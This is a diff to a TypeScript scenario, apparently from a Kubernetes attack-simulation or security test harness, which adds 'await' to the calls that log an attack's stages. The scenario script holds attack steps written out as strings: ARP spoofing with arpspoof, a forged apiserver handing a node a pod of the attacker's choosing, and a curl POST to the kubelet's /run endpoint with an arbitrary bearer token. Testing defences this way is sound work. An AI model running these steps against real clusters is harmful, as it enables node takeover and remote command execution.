@@ -48,21 +48,21 @@ export const fakeApiserver: Scenario = {
       forged,
       tampered,
     });
-    stage.did('attacker', `arpspoof -t ${newNode.name} ${target.address}`, position.describe());
+    await stage.did('attacker', `arpspoof -t ${newNode.name} ${target.address}`, position.describe());
 
     const { kubelet, failure } = await startVictim(stage, cluster);
     const serve = `answers ${newNode.name} as the apiserver, with pod/${forged} for it`;
     const shown = attack.loot.handshakes.find((it) => it.clientCertificate !== null)?.clientCertificate;
-    if (shown) stage.did('attacker', 'reads the handshake', `${shown.subject}, without its key`);
+    if (shown) await stage.did('attacker', 'reads the handshake', `${shown.subject}, without its key`);
     const output = kubelet === null ? '' : await outputOf(kubelet, forged, 'forged', stage.signal);
     if (output.includes(forged)) {
-      stage.gained(
+      await stage.gained(
         'attacker',
         serve,
         `crictl logs on ${newNode.name}: ${output}`,
         'a pod of its choice on the node',
       );
-    } else stage.refused('attacker', serve, failure);
+    } else await stage.refused('attacker', serve, failure);
 
     const kubeletAt = `https://${addresses.node3}:${ports.kubelet}`;
     const run = await curl(attackerHost, `${kubeletAt}/run/default/${forged}/forged?cmd=hostname`, {
@@ -72,13 +72,13 @@ export const fakeApiserver: Scenario = {
     });
     const knock = `curl -k -XPOST -H "Authorization: Bearer whatever" "https://${newNode.name}:10250/run/…?cmd=hostname"`;
     if (run.body.includes(forged)) {
-      stage.gained(
+      await stage.gained(
         'attacker',
         knock,
         run.body.trim(),
         'a kubelet that runs commands for whoever shows any token',
       );
-    } else stage.refused('attacker', knock, run.words);
+    } else await stage.refused('attacker', knock, run.words);
   },
 };
 
